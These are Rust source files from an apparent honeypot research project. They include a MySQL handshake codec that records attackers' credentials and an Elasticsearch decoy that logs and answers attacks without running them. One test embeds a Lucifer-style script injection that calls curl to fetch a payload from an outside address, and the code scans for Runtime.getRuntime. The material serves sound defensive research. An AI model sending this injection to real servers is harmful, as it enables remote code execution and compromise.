                    declared: u64::try_from(frame.payload.len()).unwrap_or(u64::MAX),
                    max: 0xff_ffff,
                },
            )
            .into());
        }
        let [b0, b1, b2, _] = sat_u32(frame.payload.len()).to_le_bytes();
        buf.put_u8(b0);
        buf.put_u8(b1);
        buf.put_u8(b2);
        buf.put_u8(frame.seq);
        buf.extend_from_slice(&frame.payload);
        Ok(())
    }

    fn max_frame_len(&self) -> usize {
        0xff_ffff
    }
}

/// Read a possibly-unterminated trailing string: everything up to the first
/// NUL (or the end), returning the text and the bytes after the NUL.
fn split_optional_cstring(rest: &[u8]) -> (String, &[u8]) {
    let nul = rest.iter().position(|&b| b == 0).unwrap_or(rest.len());
    let s = String::from_utf8_lossy(rest.get(..nul).unwrap_or_default()).into_owned();
    let tail = rest.get(nul + 1..).unwrap_or_default();
    (s, tail)
}

/// The server's initial handshake (greeting) packet, protocol version 10.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Greeting {
    /// Human-readable server version, e.g. `8.0.36`.
    pub server_version: String,
    /// Connection/thread id.
    pub thread_id: u32,
    /// 20-byte auth plugin challenge ("scramble").
    pub auth_data: [u8; 20],
    /// Advertised capability flags.
    pub capabilities: u32,
    /// Default authentication plugin name.
    pub auth_plugin: String,
}

impl Greeting {
    /// The greeting our honeypots send (matches a stock MySQL 8 banner).
    pub fn honeypot_default(thread_id: u32, auth_data: [u8; 20]) -> Self {
        Greeting {
            server_version: "8.0.36".into(),
            thread_id,
            auth_data,
            capabilities: CLIENT_PROTOCOL_41
                | CLIENT_SECURE_CONNECTION
                | CLIENT_PLUGIN_AUTH
                | CLIENT_CONNECT_WITH_DB,
            auth_plugin: "mysql_native_password".into(),
        }
    }

    /// Serialize into a packet payload.
    pub fn build(&self) -> Bytes {
        let (part1, part2) = self.auth_data.split_at(8);
        let [cap0, cap1, cap2, cap3] = self.capabilities.to_le_bytes();
        let mut p = BytesMut::new();
        p.put_u8(0x0a); // protocol version
        p.extend_from_slice(self.server_version.as_bytes());
        p.put_u8(0);
        p.put_u32_le(self.thread_id);
        p.extend_from_slice(part1); // auth-plugin-data-part-1
        p.put_u8(0); // filler
        p.put_u8(cap0); // capabilities, low half
        p.put_u8(cap1);
        p.put_u8(0xff); // character set: utf8mb4
        p.put_u16_le(0x0002); // status: autocommit
        p.put_u8(cap2); // capabilities, high half
        p.put_u8(cap3);
        p.put_u8(21); // length of auth plugin data
        p.extend_from_slice(&[0u8; 10]); // reserved
        p.extend_from_slice(part2); // part-2 (12 bytes)
        p.put_u8(0); // part-2 terminator
        p.extend_from_slice(self.auth_plugin.as_bytes());
        p.put_u8(0);
        p.freeze()
    }

    /// Parse a greeting payload (client side).
    pub fn parse(payload: &[u8]) -> NetResult<Greeting> {
        let mut cur = ByteCursor::new(payload, WireProtocol::MySql);
        if cur.u8()? != 0x0a {
            return Err(WireError::new(
                WireProtocol::MySql,
                0,
                WireErrorKind::BadMagic {
                    what: "greeting protocol version",
                },
            )
            .into());
        }
        let server_version = cur.cstring_lossy()?;
        let thread_id = cur.u32_le()?;
        let mut auth_data = [0u8; 20];
        for (dst, src) in auth_data.iter_mut().zip(cur.take(8)?) {
            *dst = *src;
        }
        cur.skip(1)?; // filler
        let cap_lo = u32::from(cur.u16_le()?);
        cur.skip(1)?; // charset
        cur.skip(2)?; // status
        let cap_hi = u32::from(cur.u16_le()?);
        cur.skip(1)?; // auth data length
        cur.skip(10)?; // reserved
        for (dst, src) in auth_data.iter_mut().skip(8).zip(cur.take(12)?) {
            *dst = *src;
        }
        cur.skip(1)?; // part-2 terminator
        let (auth_plugin, _) = split_optional_cstring(cur.rest());
        Ok(Greeting {
            server_version,
            thread_id,
            auth_data,
            capabilities: cap_lo | (cap_hi << 16),
            auth_plugin,
        })
    }
}

/// The client's `HandshakeResponse41` — this is where credentials appear.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LoginRequest {
    /// Capability flags echoed by the client.
    pub capabilities: u32,
    /// Username, as typed by the attacker.
    pub username: String,
    /// Raw auth response: cleartext password (clear-password plugin, with a
    /// trailing NUL) or a 20-byte native-password scramble.
    pub auth_response: Bytes,
    /// Optional initial database.
    pub database: Option<String>,
    /// Client auth plugin name, when announced.
    pub auth_plugin: Option<String>,
}

impl LoginRequest {
    /// The password as the honeypot logs it: cleartext when recoverable,
    /// otherwise the hex of the scramble (what Qeeqbox-style honeypots do).
    pub fn password_observed(&self) -> String {
        let is_clear = self
            .auth_plugin
            .as_deref()
            .map(|p| p == "mysql_clear_password")
            .unwrap_or(false);
        if is_clear {
            let raw = self
                .auth_response
                .strip_suffix(&[0u8])
                .unwrap_or(&self.auth_response);
            String::from_utf8_lossy(raw).into_owned()
        } else if self.auth_response.is_empty() {
            String::new()
        } else {
            use std::fmt::Write as _;
            let mut hex = String::with_capacity(self.auth_response.len() * 2);
            for b in &self.auth_response {
                let _ = write!(hex, "{b:02x}"); // writing to a String is infallible
            }
            hex
        }
    }

    /// Build a cleartext-plugin login (the form brute-force drivers use).
    pub fn cleartext(username: &str, password: &str, database: Option<&str>) -> Self {
        let mut auth = BytesMut::with_capacity(password.len().saturating_add(1));
        auth.extend_from_slice(password.as_bytes());
        auth.put_u8(0);
        LoginRequest {
            capabilities: CLIENT_PROTOCOL_41
                | CLIENT_SECURE_CONNECTION
                | CLIENT_PLUGIN_AUTH
                | if database.is_some() {
                    CLIENT_CONNECT_WITH_DB
                } else {
                    0
                },
            username: username.into(),
            auth_response: auth.freeze(),
            database: database.map(String::from),
            auth_plugin: Some("mysql_clear_password".into()),
        }
    }

    /// Serialize into a packet payload.
    pub fn build(&self) -> Bytes {
        let mut p = BytesMut::new();
        p.put_u32_le(self.capabilities);
        p.put_u32_le(16 << 20); // max packet size
        p.put_u8(0xff); // charset
        p.extend_from_slice(&[0u8; 23]);
        p.extend_from_slice(self.username.as_bytes());
        p.put_u8(0);
        // length-encoded auth response (secure connection form)
        p.put_u8(sat_u8(self.auth_response.len()));
        p.extend_from_slice(&self.auth_response);
        if let Some(db) = &self.database {
            p.extend_from_slice(db.as_bytes());
            p.put_u8(0);
        }
        if let Some(plugin) = &self.auth_plugin {
            p.extend_from_slice(plugin.as_bytes());
            p.put_u8(0);
        }
        p.freeze()
    }

    /// Parse a `HandshakeResponse41` payload (server side).
    pub fn parse(payload: &[u8]) -> NetResult<LoginRequest> {
        let mut cur = ByteCursor::new(payload, WireProtocol::MySql);
        let capabilities = cur.u32_le()?;
        if capabilities & CLIENT_PROTOCOL_41 == 0 {
            return Err(WireError::new(
                WireProtocol::MySql,
                0,
                WireErrorKind::Malformed {
                    detail: "pre-4.1 clients unsupported",
                },
            )
            .into());
        }
        cur.skip(4)?; // max packet size
        cur.skip(1)?; // charset
        cur.skip(23)?; // reserved filler
        let username = cur.cstring_lossy()?;
        let auth_len = usize::from(cur.u8()?);
        // Bounded copy (≤ 255 bytes): the credential must outlive the frame.
        let auth_response = Bytes::copy_from_slice(cur.take(auth_len)?);
        let mut rest = cur.rest();
        let database = if capabilities & CLIENT_CONNECT_WITH_DB != 0 && !rest.is_empty() {
            let (db, tail) = split_optional_cstring(rest);
            rest = tail;
            if db.is_empty() {
                None
            } else {
                Some(db)
            }
        } else {
            None
        };
        let auth_plugin = if capabilities & CLIENT_PLUGIN_AUTH != 0 && !rest.is_empty() {
            let (plugin, _) = split_optional_cstring(rest);
            Some(plugin)
        } else {
            None
        };
        Ok(LoginRequest {
            capabilities,
            username,
            auth_response,
            database,
            auth_plugin,
        })
    }
}

/// Build an `ERR` packet payload.
pub fn build_err(code: u16, sql_state: &str, message: &str) -> Bytes {
    let mut p = BytesMut::new();
    build_err_into(code, sql_state, message, &mut p);
    p.freeze()
}

/// Append an `ERR` packet payload to a caller-provided (pooled) buffer.
pub fn build_err_into(code: u16, sql_state: &str, message: &str, p: &mut BytesMut) {
    let start = p.len();
    p.put_u8(0xff);
    p.put_u16_le(code);
    p.put_u8(b'#');
    let state = sql_state.as_bytes();
    p.extend_from_slice(state.get(..5.min(state.len())).unwrap_or_default());
    while p.len() < start + 4 + 5 {
        p.put_u8(b'0');
    }
    p.extend_from_slice(message.as_bytes());
}

/// The access-denied error a real server sends for a failed login.
pub fn access_denied(user: &str, host: &str, using_password: bool) -> Bytes {
    use std::fmt::Write as _;
    let mut p = BytesMut::new();
    p.put_u8(0xff);
    p.put_u16_le(1045);
    p.put_u8(b'#');
    p.extend_from_slice(b"28000");
    // render the message straight into the payload buffer — no temporary String
    let _ = write!(
        p,
        "Access denied for user '{user}'@'{host}' (using password: {})",
        if using_password { "YES" } else { "NO" }
    );
    p.freeze()
}

/// The `OK` packet payload (static: it never varies).
pub fn build_ok() -> Bytes {
    Bytes::from_static(&[0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00])
}

/// Classify a post-auth command payload.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MySqlCommand {
    /// `COM_QUERY` with the SQL text.
    Query(String),
    /// `COM_QUIT`.
    Quit,
    /// `COM_PING`.
    Ping,
    /// Anything else, preserved raw as a zero-copy view of the payload.
    Other(u8, Bytes),
}

/// Parse a command-phase packet payload. Takes the packet's `Bytes` so the
/// `Other` arm can hold a zero-copy sub-view rather than a copy.
pub fn parse_command(payload: &Bytes) -> NetResult<MySqlCommand> {
    let Some((&op, rest)) = payload.split_first() else {
        return Err(WireError::new(
            WireProtocol::MySql,
            0,
            WireErrorKind::Malformed {
                detail: "empty command packet",
            },
        )
        .into());
    };
    Ok(match op {
        0x03 => MySqlCommand::Query(String::from_utf8_lossy(rest).into_owned()),
        0x01 => MySqlCommand::Quit,
        0x0e => MySqlCommand::Ping,
        other => MySqlCommand::Other(other, payload.slice_ref(rest)),
    })
}

/// Parse an ERR payload (client side), returning `(code, message)`.
pub fn parse_err(payload: &[u8]) -> Option<(u16, String)> {
    if payload.len() < 9 {
        return None;
    }
    let mut cur = ByteCursor::new(payload, WireProtocol::MySql);
    if cur.u8().ok()? != 0xff {
        return None;
    }
    let code = cur.u16_le().ok()?;
    if cur.peek_u8() == Some(b'#') {
        cur.skip(6).ok()?; // '#' + 5-char SQL state
    }
    Some((code, String::from_utf8_lossy(cur.rest()).into_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn packet_codec_roundtrip_and_partials() {
        let mut c = MySqlCodec;
        let pkt = MySqlPacket {
            seq: 1,
            payload: Bytes::from_static(&[1, 2, 3, 4, 5]),
        };
        let mut buf = BytesMut::new();
        c.encode(&pkt, &mut buf).unwrap();
        for cut in 1..buf.len() {
            let mut partial = BytesMut::from(&buf[..cut]);
            assert!(c.decode(&mut partial).unwrap().is_none());
        }
        assert_eq!(c.decode(&mut buf).unwrap().unwrap(), pkt);
    }

    #[test]
    fn greeting_roundtrip() {
        let g = Greeting::honeypot_default(7, *b"abcdefghijklmnopqrst");
        let parsed = Greeting::parse(&g.build()).unwrap();
        assert_eq!(parsed, g);
        assert_eq!(parsed.server_version, "8.0.36");
        assert_eq!(parsed.auth_plugin, "mysql_native_password");
    }

    #[test]
    fn login_request_roundtrip_cleartext() {
        let login = LoginRequest::cleartext("root", "aaaaaa", Some("mysql"));
        let parsed = LoginRequest::parse(&login.build()).unwrap();
        assert_eq!(parsed.username, "root");
        assert_eq!(parsed.password_observed(), "aaaaaa");
        assert_eq!(parsed.database.as_deref(), Some("mysql"));
        assert_eq!(parsed.auth_plugin.as_deref(), Some("mysql_clear_password"));
    }

    #[test]
    fn native_password_is_logged_as_hex() {
        let login = LoginRequest {
            capabilities: CLIENT_PROTOCOL_41 | CLIENT_SECURE_CONNECTION | CLIENT_PLUGIN_AUTH,
            username: "sa".into(),
            auth_response: Bytes::from_static(&[0xde, 0xad]),
            database: None,
            auth_plugin: Some("mysql_native_password".into()),
        };
        let parsed = LoginRequest::parse(&login.build()).unwrap();
        assert_eq!(parsed.password_observed(), "dead");
    }

    #[test]
    fn empty_password_observed_as_empty() {
        let login = LoginRequest::cleartext("root", "", None);
        let parsed = LoginRequest::parse(&login.build()).unwrap();
        assert_eq!(parsed.password_observed(), "");
    }

    #[test]
    fn err_packet_build_and_parse() {
        let payload = access_denied("root", "10.0.0.1", true);
        let (code, msg) = parse_err(&payload).unwrap();
        assert_eq!(code, 1045);
        assert!(msg.contains("Access denied for user 'root'@'10.0.0.1'"));
        assert!(msg.contains("using password: YES"));
        assert_eq!(parse_err(&build_ok()), None);
    }

    #[test]
    fn command_parsing() {
        let mut q = vec![0x03];
        q.extend_from_slice(b"SELECT @@version");
        assert_eq!(
            parse_command(&Bytes::from(q)).unwrap(),
            MySqlCommand::Query("SELECT @@version".into())
        );
        assert_eq!(
            parse_command(&Bytes::from_static(&[0x01])).unwrap(),
            MySqlCommand::Quit
        );
        assert_eq!(
            parse_command(&Bytes::from_static(&[0x0e])).unwrap(),
            MySqlCommand::Ping
        );
        let other = parse_command(&Bytes::from_static(&[0x1b, 9])).unwrap();
        assert!(matches!(other, MySqlCommand::Other(0x1b, ref b) if b[..] == [9]));
        assert!(parse_command(&Bytes::new()).is_err());
    }

    #[test]
    fn rejects_pre41_clients_and_short_packets() {
        assert!(LoginRequest::parse(&[0u8; 40]).is_err());
        assert!(LoginRequest::parse(&[0u8; 4]).is_err());
        assert!(Greeting::parse(b"\x09garbage").is_err());
    }

    #[test]
    fn truncated_login_reports_mysql_offsets() {
        // capabilities announce 4.1, then the packet ends mid-filler
        let mut payload = vec![];
        payload.extend_from_slice(&CLIENT_PROTOCOL_41.to_le_bytes());
        payload.extend_from_slice(&[0u8; 6]);
        let err = LoginRequest::parse(&payload).unwrap_err();
        match err {
            decoy_net::NetError::Wire(w) => {
                assert_eq!(w.protocol, WireProtocol::MySql);
                assert!(matches!(w.kind, WireErrorKind::Truncated { .. }));
            }
            other => panic!("expected wire error, got {other:?}"),
        }
    }
}
