#![warn(missing_docs)]
#![forbid(unsafe_code)]
// Honeypot read paths handle attacker-controlled bytes end to end. Like
// decoy-wire, they must be total: Ok or Err, never a panic. `decoy-xtask
// lint` enforces the same wall with file:line diagnostics; see DESIGN.md
// "Threat model of the byte path".
#![cfg_attr(
    not(test),
    deny(
        clippy::unwrap_used,
        clippy::expect_used,
        clippy::indexing_slicing,
        clippy::panic
    )
)]

//! # decoy-honeypots
//!
//! The honeypot fleet of the paper, built on `decoy-net` + `decoy-wire` +
//! `decoy-store`:
//!
//! | Module | Paper honeypot | Level | DBMS |
//! |---|---|---|---|
//! | [`low`] | Qeeqbox Honeypots | low | MySQL, PostgreSQL, Redis, MSSQL |
//! | [`redis_med`] | RedisHoneyPot | medium | Redis (default + fake-data configs) |
//! | [`pg_med`] | Sticky Elephant | medium | PostgreSQL (default + login-disabled) |
//! | [`elastic`] | Elasticpot | medium | Elasticsearch (JSON-driven responses) |
//! | [`mongo_high`] | mongodb-honeypot | high | MongoDB over a real document store |
//! | [`mysql_med`] | *(extension, §7)* | medium | MySQL with scripted SQL responses |
//! | [`couch_med`] | *(extension, §7)* | medium | CouchDB over HTTP fronting a real document store |
//!
//! Every session logs standardized [`decoy_store::Event`]s through
//! [`logging::SessionLogger`]; the PROXY-protocol shim preserves simulated
//! source addresses exactly as a production load balancer would. Honeypots
//! never execute captured payloads (Appendix A): exploit bytes are stored,
//! recognized, and answered with the protocol's plausible response.
//!
//! The [`catalog`] module is the fingerprinting-hardening layer: one
//! authoritative version profile and real error-message catalog per DBMS,
//! validated for coherence at deploy time and shared with the
//! `decoy-fingerprint` probe corpus so honeypot strings cannot drift.

pub mod catalog;
pub mod couch_med;
pub mod deploy;
pub mod elastic;
pub mod logging;
pub mod low;
pub mod mongo_high;
pub mod mysql_med;
pub mod pg_med;
pub mod redis_med;

pub use deploy::{spawn, HoneypotSpec, RunningHoneypot};
pub use logging::SessionLogger;
