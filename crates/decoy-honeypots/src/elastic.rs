//! Medium-interaction Elasticsearch honeypot (Elasticpot-style).
//!
//! "Replicates a vulnerable Elasticsearch server accessible over the
//! internet. Its response to queries can be extensively customized through
//! .json files" (§4.1). Authentication is disabled and anyone can issue
//! commands through the emulated HTTP API — the configuration of §4.2.
//!
//! The response book is JSON-configurable: exact-path and prefix rules plus
//! built-in defaults for the endpoints institutional scanners and the
//! Lucifer campaign hit (`/`, `/_nodes`, `/_cluster/health`, `/_cat/indices`,
//! `/_search` including `script_fields` payloads).

use crate::catalog;
use crate::logging::SessionLogger;
use crate::low::read_or_fault;
use decoy_net::error::NetResult;
use decoy_net::framed::Framed;
use decoy_net::proxy;
use decoy_net::server::{SessionCtx, SessionHandler, SessionStream};
use decoy_store::{EventStore, HoneypotId};
use decoy_wire::http::{HttpRequest, HttpResponse, HttpServerCodec};
use serde_json::{json, Value};
use std::sync::Arc;

/// A customization rule: method (or `*`), path match, response.
#[derive(Debug, Clone)]
pub struct ResponseRule {
    /// HTTP method or `*`.
    pub method: String,
    /// Exact path, or a prefix when it ends with `*`.
    pub path: String,
    /// Status code to answer.
    pub status: u16,
    /// JSON body to answer.
    pub body: Value,
}

impl ResponseRule {
    fn matches(&self, req: &HttpRequest) -> bool {
        let method_ok = self.method == "*" || self.method.eq_ignore_ascii_case(&req.method);
        let path = req.path();
        let path_ok = match self.path.strip_suffix('*') {
            Some(prefix) => path.starts_with(prefix),
            None => path == self.path,
        };
        method_ok && path_ok
    }
}

/// The JSON-driven response configuration.
#[derive(Debug, Clone, Default)]
pub struct ResponseBook {
    rules: Vec<ResponseRule>,
}

impl ResponseBook {
    /// Empty book: only built-in defaults answer.
    pub fn new() -> Self {
        ResponseBook::default()
    }

    /// Add a rule (first match wins, before defaults).
    pub fn with_rule(mut self, method: &str, path: &str, status: u16, body: Value) -> Self {
        self.rules.push(ResponseRule {
            method: method.to_string(),
            path: path.to_string(),
            status,
            body,
        });
        self
    }

    /// Parse rules from the Elasticpot-style JSON configuration format:
    /// `[{"method":"GET","path":"/_cat/indices","status":200,"body":{...}}]`.
    pub fn from_json(text: &str) -> Result<Self, serde_json::Error> {
        let raw: Vec<Value> = serde_json::from_str(text)?;
        let mut book = ResponseBook::new();
        for entry in raw {
            book.rules.push(ResponseRule {
                method: entry
                    .get("method")
                    .and_then(Value::as_str)
                    .unwrap_or("*")
                    .to_string(),
                path: entry
                    .get("path")
                    .and_then(Value::as_str)
                    .unwrap_or("/")
                    .to_string(),
                status: entry
                    .get("status")
                    .and_then(Value::as_u64)
                    .and_then(|s| u16::try_from(s).ok())
                    .unwrap_or(200),
                body: entry.get("body").cloned().unwrap_or(Value::Null),
            });
        }
        Ok(book)
    }

    fn lookup(&self, req: &HttpRequest) -> Option<&ResponseRule> {
        self.rules.iter().find(|r| r.matches(req))
    }
}

/// The medium-interaction Elasticsearch honeypot.
pub struct ElasticPot {
    store: Arc<EventStore>,
    id: HoneypotId,
    book: ResponseBook,
    cluster_name: String,
}

impl ElasticPot {
    /// Default configuration.
    pub fn new(store: Arc<EventStore>, id: HoneypotId) -> Arc<Self> {
        Self::with_book(store, id, ResponseBook::new())
    }

    /// With a customized response book.
    pub fn with_book(store: Arc<EventStore>, id: HoneypotId, book: ResponseBook) -> Arc<Self> {
        Arc::new(ElasticPot {
            store,
            id,
            book,
            cluster_name: "elasticsearch".into(),
        })
    }

    fn respond(&self, req: &HttpRequest) -> HttpResponse {
        if let Some(rule) = self.book.lookup(req) {
            return HttpResponse::json(rule.status, rule.body.to_string());
        }
        let path = req.path().to_string();
        let body_text = req.body_text();
        match (req.method.as_str(), path.as_str()) {
            (_, "/") => HttpResponse::json(
                200,
                json!({
                    "name": "node-1",
                    "cluster_name": self.cluster_name,
                    "cluster_uuid": "Hl0H4cyrSseJp5pYrMio5g",
                    "version": {
                        "number": catalog::ELASTIC_VERSION,
                        "build_hash": catalog::ELASTIC_BUILD_HASH,
                        "lucene_version": catalog::LUCENE_VERSION
                    },
                    "tagline": "You Know, for Search"
                })
                .to_string(),
            ),
            ("GET", "/_cluster/health") => HttpResponse::json(
                200,
                json!({
                    "cluster_name": self.cluster_name,
                    "status": "yellow",
                    "number_of_nodes": 1,
                    "number_of_data_nodes": 1,
                    "active_primary_shards": 5,
                    "active_shards": 5,
                    "unassigned_shards": 5
                })
                .to_string(),
            ),
            ("GET", "/_nodes") | ("GET", "/_nodes/stats") => HttpResponse::json(
                200,
                json!({
                    "_nodes": {"total": 1, "successful": 1},
                    "cluster_name": self.cluster_name,
                    "nodes": {
                        "x1CefFEJTIyBV2uxjLUYdw": {
                            "name": "node-1",
                            "host": "172.17.0.2",
                            "version": catalog::ELASTIC_VERSION,
                            "os": {"name": "Linux", "arch": "amd64"}
                        }
                    }
                })
                .to_string(),
            ),
            ("GET", "/_cat/indices") => HttpResponse::json(
                200,
                "yellow open customers R3PpbEzJQ1y 5 1 1284 0 1.1mb 1.1mb\n\
                 yellow open orders    mJ9qXc2WQm1 5 1 5411 0 4.0mb 4.0mb\n",
            ),
            (_, p) if p.ends_with("/_search") || p == "/_search" => {
                self.search_response(&body_text, req)
            }
            ("PUT" | "POST", p) if p.contains("/_doc") => HttpResponse::json(
                201,
                json!({
                    "_index": p.split('/').nth(1).unwrap_or("idx"),
                    "_type": "_doc",
                    "_id": "AV8KXxYcZ1",
                    "result": "created",
                    "_shards": {"total": 2, "successful": 1, "failed": 0}
                })
                .to_string(),
            ),
            ("DELETE", _) => HttpResponse::json(200, json!({"acknowledged": true}).to_string()),
            // real ES 5.x sends the full resource envelope on 404; the
            // bare type+reason body was a probe-visible tell
            _ => {
                let index = path.trim_start_matches('/').split('/').next().unwrap_or("");
                let mut body = String::new();
                let _ = catalog::elastic_index_not_found(&mut body, index);
                HttpResponse::json(404, body)
            }
        }
    }

    fn search_response(&self, body: &str, req: &HttpRequest) -> HttpResponse {
        // Lucifer (Listing 5) smuggles Java in `script_fields` via the URL's
        // source parameter; either way the body/query reaches us as text.
        let combined = format!("{} {}", req.target, body);
        let scripted =
            combined.contains("script_fields") || combined.contains("Runtime.getRuntime");
        let hits = if scripted {
            // a vulnerable 1.x/5.x cluster would attempt the script; ours
            // answers a plausible empty evaluation
            json!([{"_index": "customers", "_id": "1", "_score": 1.0, "fields": {"exp": [""]}}])
        } else {
            json!([{
                "_index": "customers",
                "_id": "1",
                "_score": 1.0,
                "_source": {"name": "James Smith", "card": "4111111111111111"}
            }])
        };
        HttpResponse::json(
            200,
            json!({
                "took": 3,
                "timed_out": false,
                "_shards": {"total": 5, "successful": 5, "failed": 0},
                "hits": {"total": 1, "max_score": 1.0, "hits": hits}
            })
            .to_string(),
        )
    }
}

impl SessionHandler for ElasticPot {
    async fn handle(self: Arc<Self>, mut stream: SessionStream, ctx: SessionCtx) {
        let (proxied, initial) = match proxy::maybe_read_v1(&mut stream).await {
            Ok(pair) => pair,
            Err(_) => return,
        };
        let log = SessionLogger::new(self.store.clone(), self.id, ctx, proxied.map(|sa| sa.ip()));
        log.connect();
        if let Err(e) = self.session(stream, initial, &log).await {
            if e.is_peer_fault() {
                log.malformed(e.to_string());
            }
        }
        log.disconnect();
    }
}

impl ElasticPot {
    async fn session(
        &self,
        stream: SessionStream,
        initial: bytes::BytesMut,
        log: &SessionLogger,
    ) -> NetResult<()> {
        let mut framed = Framed::with_initial(stream, HttpServerCodec, initial);
        loop {
            let req = read_or_fault!(framed, log);
            // Render the way Elasticpot logs: METHOD + target (+ body).
            let rendered = if req.body.is_empty() {
                format!("{} {}", req.method, req.target)
            } else {
                format!("{} {} {}", req.method, req.target, req.body_text())
            };
            log.command(&rendered);
            if decoy_wire::foreign::recognize(&req.body).is_some()
                || decoy_wire::foreign::recognize(req.target.as_bytes()).is_some()
            {
                log.payload(&[req.target.as_bytes(), b" ", req.body.as_ref()].concat());
            }
            let resp = self.respond(&req);
            // head renders into the pooled write buffer; the body (often a
            // shared canned response) goes out borrowed via vectored I/O
            framed
                .write_split(
                    |buf| decoy_wire::http::encode_response_head(&resp, buf),
                    &resp.body,
                )
                .await?;
            let close = req
                .header("connection")
                .map(|v| v.eq_ignore_ascii_case("close"))
                .unwrap_or(false);
            if close {
                return Ok(());
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
    use decoy_net::time::Clock;
    use decoy_store::{ConfigVariant, Dbms, EventKind, InteractionLevel};
    use decoy_wire::http::HttpClientCodec;
    use tokio::net::TcpStream;

    async fn spawn(book: ResponseBook) -> (ServerHandle, Arc<EventStore>) {
        let store = EventStore::new();
        let id = HoneypotId::new(
            Dbms::Elastic,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        let hp = ElasticPot::with_book(store.clone(), id, book);
        let server = Listener::bind(
            "127.0.0.1:0".parse().unwrap(),
            hp,
            ListenerOptions {
                max_sessions: 64,
                clock: Clock::simulated(),
                ..ListenerOptions::default()
            },
        )
        .await
        .unwrap();
        (server, store)
    }

    async fn request(f: &mut Framed<TcpStream, HttpClientCodec>, req: HttpRequest) -> HttpResponse {
        f.write_frame(&req).await.unwrap();
        f.read_frame().await.unwrap().unwrap()
    }

    #[tokio::test]
    async fn banner_and_cluster_endpoints() {
        let (server, store) = spawn(ResponseBook::new()).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, HttpClientCodec);
        let banner = request(&mut f, HttpRequest::new("GET", "/")).await;
        assert_eq!(banner.status, 200);
        let v: Value = serde_json::from_slice(&banner.body).unwrap();
        assert_eq!(v["tagline"], "You Know, for Search");
        let health = request(&mut f, HttpRequest::new("GET", "/_cluster/health")).await;
        let v: Value = serde_json::from_slice(&health.body).unwrap();
        assert_eq!(v["status"], "yellow");
        let nodes = request(&mut f, HttpRequest::new("GET", "/_nodes")).await;
        assert_eq!(nodes.status, 200);
        server.shutdown().await;
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len(),
            3
        );
    }

    #[tokio::test]
    async fn custom_rules_override_defaults() {
        let book =
            ResponseBook::new().with_rule("GET", "/_cat/indices", 200, json!({"custom": true}));
        let (server, _store) = spawn(book).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, HttpClientCodec);
        let resp = request(&mut f, HttpRequest::new("GET", "/_cat/indices")).await;
        let v: Value = serde_json::from_slice(&resp.body).unwrap();
        assert_eq!(v["custom"], true);
        server.shutdown().await;
    }

    #[test]
    fn response_book_from_json() {
        let book = ResponseBook::from_json(
            r#"[{"method":"GET","path":"/secret*","status":403,"body":{"denied":true}}]"#,
        )
        .unwrap();
        let req = HttpRequest::new("GET", "/secret/files");
        let rule = book.lookup(&req).unwrap();
        assert_eq!(rule.status, 403);
        assert!(book.lookup(&HttpRequest::new("GET", "/open")).is_none());
        assert!(ResponseBook::from_json("not json").is_err());
    }

    #[tokio::test]
    async fn lucifer_script_injection_is_logged_and_answered() {
        // Listing 5: /_search?source={... script_fields ... Runtime.getRuntime ...}
        let (server, store) = spawn(ResponseBook::new()).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, HttpClientCodec);
        let body = r#"{"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"exp":{"script":"import java.util.*; Runtime.getRuntime().exec(\"curl -o /tmp/sss6 http://198.51.100.8:9999/sss6\")"}}}"#;
        let resp = request(
            &mut f,
            HttpRequest::new("POST", "/_search").with_body("application/json", body),
        )
        .await;
        assert_eq!(resp.status, 200);
        let v: Value = serde_json::from_slice(&resp.body).unwrap();
        assert_eq!(v["timed_out"], false);
        server.shutdown().await;
        let cmds = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.contains("script_fields")),
        );
        assert_eq!(cmds.len(), 1);
        // masked action hides the loader address
        let EventKind::Command { action, .. } = &cmds[0].kind else {
            unreachable!()
        };
        assert!(action.contains("http://<IP>/sss6"), "{action}");
    }

    #[tokio::test]
    async fn craftcms_probe_is_recognized() {
        let (server, store) = spawn(ResponseBook::new()).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, HttpClientCodec);
        let body = decoy_wire::foreign::craftcms_probe_body();
        let resp = request(
            &mut f,
            HttpRequest::new("POST", "/index.php")
                .with_body("application/x-www-form-urlencoded", body),
        )
        .await;
        // no Craft CMS here: invalid-for-ES syntax yields the 404 error json
        assert_eq!(resp.status, 404);
        server.shutdown().await;
        let payloads = store.filter(|e| {
            matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "craftcms-probe")
        });
        assert_eq!(payloads.len(), 1);
    }

    #[tokio::test]
    async fn document_insert_pretends_to_succeed() {
        let (server, _store) = spawn(ResponseBook::new()).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, HttpClientCodec);
        let resp = request(
            &mut f,
            HttpRequest::new("POST", "/pwned/_doc")
                .with_body("application/json", r#"{"ransom":"pay up"}"#),
        )
        .await;
        assert_eq!(resp.status, 201);
        let v: Value = serde_json::from_slice(&resp.body).unwrap();
        assert_eq!(v["result"], "created");
        server.shutdown().await;
    }

    #[tokio::test]
    async fn connection_close_header_is_honored() {
        let (server, _store) = spawn(ResponseBook::new()).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, HttpClientCodec);
        let mut req = HttpRequest::new("GET", "/");
        req.headers.push(("Connection".into(), "close".into()));
        let resp = request(&mut f, req).await;
        assert_eq!(resp.status, 200);
        // server closes; next read yields clean EOF
        assert!(f.read_frame().await.unwrap().is_none());
        server.shutdown().await;
    }
}
