//! Deployment helpers: turn a [`HoneypotSpec`] into a bound, running
//! listener. The experiment runner in `decoy-core` uses this to stand up
//! the full Table 4 fleet; the examples use it for single instances.

use crate::elastic::{ElasticPot, ResponseBook};
use crate::low::LowHoneypot;
